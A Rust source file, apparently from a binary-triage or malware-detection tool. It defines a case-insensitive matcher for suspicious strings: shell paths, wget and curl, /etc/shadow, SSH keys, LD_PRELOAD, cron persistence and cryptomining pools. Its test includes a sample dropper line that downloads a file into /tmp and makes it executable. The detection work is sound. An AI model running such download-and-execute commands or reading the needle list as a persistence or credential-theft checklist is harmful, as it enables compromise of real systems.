//! The marker strings looked for inside printable strings (shell commands, URLs,
//! mining pools, toolchain and packer traces) and the matcher that finds them.
//!
//! Owns one lazily built, immutable matcher. A marker is a feature-level concept
//! ("mentions `/bin/sh`") with one or more needles; matching is ASCII
//! case-insensitive. Every 4-byte window of a string is case-folded, hashed and
//! tested against a 64 Ki-bit filter of the needles' folded prefixes; only the rare
//! hits (about 0.3 % of windows in real binaries) search the sorted needles. (A
//! Wu–Manber skip table was measured slower here: its data-dependent jumps serialize
//! loads and mispredict.) Every needle is at least four bytes long. Adding, removing or reordering
//! markers or needles changes the schema: bump `SCHEMA_VERSION`. (UPX's `UPX!`
//! magic is found by the string scan itself, case-sensitively, at any run length.)

use std::sync::OnceLock;

/// What a string can mention. Declaration order indexes [`MARKER_NEEDLES`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Marker {
    /// `http://`, `https://`, `ftp://`.
    Url,
    /// `/bin/sh`.
    BinSh,
    /// `/bin/bash`.
    BinBash,
    /// `busybox`.
    Busybox,
    /// `wget`.
    Wget,
    /// `curl ` (a command, not the library name).
    Curl,
    /// `tftp`.
    Tftp,
    /// `chmod `.
    Chmod,
    /// `rm -rf`, `rm -f`.
    RmRf,
    /// `/dev/null`.
    DevNull,
    /// `nohup`.
    Nohup,
    /// `crontab`, `/etc/cron`.
    Crontab,
    /// `iptables`, `ufw disable`.
    Iptables,
    /// `/etc/init.d`, `/etc/rc.local`, `/etc/rc.d`.
    InitScripts,
    /// `systemctl`, `/etc/systemd/system`.
    Systemctl,
    /// `ld.so.preload`, `LD_PRELOAD`.
    LdPreload,
    /// `/proc/`.
    Proc,
    /// `/tmp/`, `/var/tmp`.
    Tmp,
    /// `/dev/shm`.
    DevShm,
    /// `/etc/passwd`, `/etc/shadow`.
    EtcPasswd,
    /// `authorized_keys`, `/.ssh`.
    SshKeys,
    /// `/dev/watchdog`, `/dev/misc/watchdog`.
    Watchdog,
    /// `User-Agent`, `Mozilla/`.
    UserAgent,
    /// IRC commands: `PRIVMSG`, `NICK `, `JOIN #`.
    Irc,
    /// `stratum+tcp`, `stratum+ssl`, `stratum2+tcp`.
    Stratum,
    /// `xmrig`.
    Xmrig,
    /// Other mining words: `cryptonight`, `randomx`, `nicehash`, ...
    MiningOther,
    /// Go build markers: `Go buildinf:`, `Go build ID: "`.
    GoBuild,
    /// Go runtime function names (kept in `.gopclntab` even when stripped).
    GoRuntime,
    /// Rust toolchain paths: `/rustc/`, `/.cargo/registry/`.
    RustPath,
    /// Rust panic machinery: `rust_begin_unwind`, `rust_panic`, unwrap messages.
    RustPanic,
    /// `GCC: (` (the `.comment` of GCC-built objects).
    GccComment,
    /// `clang version`.
    ClangComment,
    /// UPX's banner: `this file is packed with the UPX`, `$Id: UPX`.
    UpxInfo,
}

/// Number of markers (fits in a `u64` mask).
pub(crate) const MARKER_COUNT: usize = 34;

/// Needles of each marker, lower-case, in [`Marker`] order.
pub(crate) const MARKER_NEEDLES: [&[&[u8]]; MARKER_COUNT] = [
    &[b"http://", b"https://", b"ftp://"],
    &[b"/bin/sh"],
    &[b"/bin/bash"],
    &[b"busybox"],
    &[b"wget"],
    &[b"curl "],
    &[b"tftp"],
    &[b"chmod "],
    &[b"rm -rf", b"rm -f"],
    &[b"/dev/null"],
    &[b"nohup"],
    &[b"crontab", b"/etc/cron"],
    &[b"iptables", b"ufw disable"],
    &[b"/etc/init.d", b"/etc/rc.local", b"/etc/rc.d"],
    &[b"systemctl", b"/etc/systemd/system"],
    &[b"ld.so.preload", b"ld_preload"],
    &[b"/proc/"],
    &[b"/tmp/", b"/var/tmp"],
    &[b"/dev/shm"],
    &[b"/etc/passwd", b"/etc/shadow"],
    &[b"authorized_keys", b"/.ssh"],
    &[b"/dev/watchdog", b"/dev/misc/watchdog"],
    &[b"user-agent", b"mozilla/"],
    &[b"privmsg", b"nick ", b"join #"],
    &[b"stratum+tcp", b"stratum+ssl", b"stratum2+tcp"],
    &[b"xmrig"],
    &[
        b"cryptonight",
        b"randomx",
        b"nicehash",
        b"minergate",
        b"coinhive",
        b"donate-level",
        b"monero",
        b"hashrate",
    ],
    &[b"go buildinf:", b"go build id: \""],
    &[b"runtime.gopanic", b"runtime.morestack", b"runtime.goexit"],
    &[b"/rustc/", b"/.cargo/registry/"],
    &[
        b"rust_begin_unwind",
        b"rust_panic",
        b"called `option::unwrap()` on a `none` value",
    ],
    &[b"gcc: ("],
    &[b"clang version"],
    &[b"this file is packed with the upx", b"$id: upx"],
];

/// Markers that make a string count as a shell-command fragment.
pub(crate) const SHELL_MARKERS: &[Marker] = &[
    Marker::BinSh,
    Marker::BinBash,
    Marker::Busybox,
    Marker::Wget,
    Marker::Curl,
    Marker::Tftp,
    Marker::Chmod,
    Marker::RmRf,
    Marker::DevNull,
    Marker::Nohup,
    Marker::Crontab,
    Marker::Iptables,
    Marker::InitScripts,
    Marker::Systemctl,
    Marker::LdPreload,
    Marker::Proc,
    Marker::Tmp,
    Marker::DevShm,
    Marker::EtcPasswd,
    Marker::SshKeys,
    Marker::Watchdog,
];

/// Markers that make a string count as a mining string.
pub(crate) const MINING_MARKERS: &[Marker] = &[Marker::Stratum, Marker::Xmrig, Marker::MiningOther];

impl Marker {
    /// The marker's bit in a per-string mask.
    pub(crate) fn bit(self) -> u64 {
        1u64 << (self as u32)
    }

    /// The union of the bits of `markers`.
    pub(crate) fn mask(markers: &[Marker]) -> u64 {
        markers.iter().fold(0, |m, k| m | k.bit())
    }
}

/// One needle: its lower-case text and the index of its marker.
struct Needle {
    text: &'static [u8],
    marker: u8,
}

/// Length of the needle prefix the filter is built from (every needle is at least
/// this long).
const PREFIX: usize = 4;
/// Words of the prefix filter (64 Ki bits).
const FILTER_WORDS: usize = 1 << 10;

/// Case-folded four bytes: `| 0x20` per byte maps letters to lower case (and a few
/// punctuation pairs onto each other, which only costs a verification).
fn fold4(bytes: [u8; 4]) -> u32 {
    u32::from_le_bytes(bytes) | 0x2020_2020
}

/// Bit of a folded prefix in the filter (multiplicative hash to 16 bits).
fn filter_bit(folded: u32) -> usize {
    (folded.wrapping_mul(0x9e37_79b1) >> 16) as usize
}

/// Prefix filter plus needles sorted by folded prefix.
pub(crate) struct Matcher {
    /// Bit `filter_bit(k)` set for every needle's folded prefix `k`.
    filter: Box<[u64; FILTER_WORDS]>,
    /// Needles with their folded 4-byte prefix, sorted by it.
    needles: Vec<(u32, Needle)>,
}

static MATCHER: OnceLock<Matcher> = OnceLock::new();

impl Matcher {
    /// The process-wide matcher (built on first use).
    pub(crate) fn get() -> &'static Matcher {
        MATCHER.get_or_init(Matcher::build)
    }

    fn build() -> Matcher {
        let mut filter = Box::new([0u64; FILTER_WORDS]);
        let mut needles = Vec::new();
        for (marker, list) in MARKER_NEEDLES.iter().enumerate() {
            for &text in *list {
                let Some(prefix) = text.get(..PREFIX).and_then(|p| <[u8; 4]>::try_from(p).ok())
                else {
                    continue;
                };
                let folded = fold4(prefix);
                let bit = filter_bit(folded);
                if let Some(word) = filter.get_mut(bit / 64) {
                    *word |= 1u64 << (bit % 64);
                }
                let marker = u8::try_from(marker).unwrap_or(u8::MAX);
                needles.push((folded, Needle { text, marker }));
            }
        }
        needles.sort_by_key(|(k, _)| *k);
        Matcher { filter, needles }
    }

    /// The mask of markers (bit `Marker as u32`) with a needle somewhere in `s`.
    pub(crate) fn scan(&self, s: &[u8]) -> u64 {
        let mut mask = 0u64;
        for (i, window) in s.windows(PREFIX).enumerate() {
            let folded = <[u8; 4]>::try_from(window).map_or(0, fold4);
            let bit = filter_bit(folded);
            // bit < 2^16, so the index is always in range; the mask keeps that visible.
            if self.filter[(bit / 64) & (FILTER_WORDS - 1)] & (1u64 << (bit % 64)) == 0 {
                continue;
            }
            if let Some(rest) = s.get(i..) {
                mask |= self.verify(folded, rest);
            }
        }
        mask
    }

    /// Markers of the needles with folded prefix `key` that `rest` starts with.
    fn verify(&self, key: u32, rest: &[u8]) -> u64 {
        let mut mask = 0u64;
        let from = self.needles.partition_point(|(k, _)| *k < key);
        for (k, needle) in self.needles.get(from..).unwrap_or(&[]) {
            if *k != key {
                break;
            }
            let n = needle.text.len();
            if rest
                .get(..n)
                .is_some_and(|w| w.eq_ignore_ascii_case(needle.text))
            {
                mask |= 1u64.checked_shl(u32::from(needle.marker)).unwrap_or(0);
            }
        }
        mask
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_is_consistent() {
        assert_eq!(MARKER_NEEDLES.len(), MARKER_COUNT);
        assert_eq!(Marker::UpxInfo as usize + 1, MARKER_COUNT);
        const { assert!(MARKER_COUNT <= 64) };
        for list in MARKER_NEEDLES {
            assert!(!list.is_empty());
            for n in list {
                assert!(n.len() >= 4, "needle shorter than the filter prefix");
                assert_eq!(n.to_ascii_lowercase(), n.to_vec(), "needle not lower-case");
            }
        }
    }

    #[test]
    fn finds_markers_case_insensitively() {
        let m = Matcher::get();
        let mask = m.scan(b"cd /tmp/; WGET http://1.2.3.4/x; chmod +x x");
        assert_ne!(mask & Marker::Tmp.bit(), 0);
        assert_ne!(mask & Marker::Wget.bit(), 0);
        assert_ne!(mask & Marker::Url.bit(), 0);
        assert_ne!(mask & Marker::Chmod.bit(), 0);
        assert_eq!(mask & Marker::Xmrig.bit(), 0);
        assert_ne!(m.scan(b"xx\xff Go BUILDINF:") & Marker::GoBuild.bit(), 0);
        assert_ne!(m.scan(b"wget") & Marker::Wget.bit(), 0);
        assert_eq!(m.scan(b"wge"), 0);
        assert_eq!(m.scan(b""), 0);
        assert_eq!(m.scan(b"x"), 0);
        // Every needle, at every offset and in mixed case, is found.
        for (marker, list) in MARKER_NEEDLES.iter().enumerate() {
            for needle in *list {
                for pad in 0..6 {
                    let mut s = vec![b'.'; pad];
                    s.extend(needle.iter().enumerate().map(|(i, b)| {
                        if i % 2 == 0 {
                            b.to_ascii_uppercase()
                        } else {
                            *b
                        }
                    }));
                    s.extend_from_slice(b"..");
                    assert_ne!(
                        m.scan(&s) & (1u64 << marker),
                        0,
                        "{:?} at {pad}",
                        String::from_utf8_lossy(needle)
                    );
                    s.truncate(pad + needle.len());
                    assert_ne!(
                        m.scan(&s) & (1u64 << marker),
                        0,
                        "{:?} at end",
                        String::from_utf8_lossy(needle)
                    );
                }
            }
        }
        // Non-printable bytes do not break the scan.
        assert_ne!(m.scan(b"\x00\xffwget\x80") & Marker::Wget.bit(), 0);
    }
}
